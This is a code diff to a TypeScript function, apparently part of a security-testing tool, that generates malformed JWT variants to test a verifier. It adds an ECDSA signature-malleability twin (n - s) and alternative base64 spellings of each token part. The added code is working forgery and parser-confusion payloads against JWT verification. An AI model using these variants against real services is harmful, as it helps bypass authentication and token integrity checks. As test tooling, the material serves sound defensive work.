@@ -182,9 +182,11 @@ export function jwtAttacks({ token, publicJwk, privateJwk, now, victim }: Loot):
     "signature with a bit flipped": rawSignature(flipped(bytes)),
     "signature cut short": rawSignature(bytes.subarray(0, 63)),
     "signature with a byte more": rawSignature(Buffer.concat([bytes, Buffer.alloc(1)])),
+    "signature with n - s in place of s": rawSignature(twin(bytes)),
     "signature in DER": es256Der(),
     "signature with padding": `${token}==`,
     "signature with another last letter that decodes alike": alike(token),
+    ...spellings(token),
     "signature in plain base64": rawSignature(bytes.toString("base64").replaceAll("=", "") + "+"),
     "header twice": `${head}.${head}.${body}.${signature}`,
     "payload twice": `${head}.${body}.${body}.${signature}`,
@@ -223,11 +225,37 @@ export function jwtAttacks({ token, publicJwk, privateJwk, now, victim }: Loot):
   }
 }
 
+const orderHex = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
 /** The order of P-256, as r and as s. */
-const order = Buffer.from(
-  "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551".repeat(2),
-  "hex",
-);
+const order = Buffer.from(orderHex.repeat(2), "hex");
+
+/** The other signature that ECDSA holds to be good for the same text. */
+function twin(signature: Buffer): Buffer {
+  const s = BigInt(`0x${orderHex}`) - BigInt(`0x${signature.toString("hex", 32)}`);
+  return Buffer.concat([signature.subarray(0, 32), Buffer.from(s.toString(16).padStart(64, "0"), "hex")]);
+}
+
+/** Other spellings of the three parts that a generous decoder takes for the same bytes. */
+function spellings(token: string): Record<string, string> {
+  const parts = token.split(".");
+  const spelt = (index: number, change: (part: string) => string): string =>
+    parts.map((part, at) => (at === index ? change(part) : part)).join(".");
+  return Object.fromEntries(
+    ["header", "payload", "signature"].flatMap((name, index) => [
+      [`${name} with one sign of padding`, spelt(index, (part) => `${part}=`)],
+      [`${name} with two signs of padding`, spelt(index, (part) => `${part}==`)],
+      [`${name} with a line break`, spelt(index, (part) => `${part}\n`)],
+      [`${name} with a sign that is passed over`, spelt(index, (part) => `${part}!`)],
+      [`${name} with the letters of plain base64`, spelt(index, plainBase64)],
+    ]),
+  );
+}
+
+function plainBase64(part: string): string {
+  const plain = Buffer.from(part, "base64url").toString("base64");
+  // Without any of the letters that differ the padding still does.
+  return plain === part ? `${plain}====` : plain;
+}
 
 function flipped(bytes: Buffer): Buffer {
   const copy = Buffer.from(bytes);
